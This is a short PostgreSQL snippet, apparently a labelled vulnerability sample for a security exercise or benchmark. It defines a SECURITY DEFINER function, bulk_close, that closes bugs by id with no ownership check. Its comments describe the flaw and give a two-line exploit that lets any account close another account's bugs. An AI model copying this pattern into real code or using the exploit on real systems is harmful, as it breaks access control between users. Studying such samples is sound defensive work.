-- Any account closes bugs of others by their ids, because the bulk function has its owner's rights and no
-- filter.
-- about: bulk_close, bugs
-- as: hf_bugtracker_app
-- exploit: SET app.current_account_id = 'a0000000-0000-4000-8000-00000000000a';
-- exploit: SELECT 'closed ' || bulk_close(ARRAY['b3000000-0000-4000-8000-000000000001']::uuid[]);
-- shows: closed 1
-- One statement for the whole selection of a list.
CREATE FUNCTION bulk_close(p_ids uuid[]) RETURNS int LANGUAGE plpgsql SECURITY DEFINER
SET search_path = public, pg_temp AS $$
DECLARE n int;
BEGIN
  UPDATE bugs SET closed_at = now() WHERE id = ANY (p_ids) AND closed_at IS NULL;
  GET DIAGNOSTICS n = ROW_COUNT;
  RETURN n;
END $$;
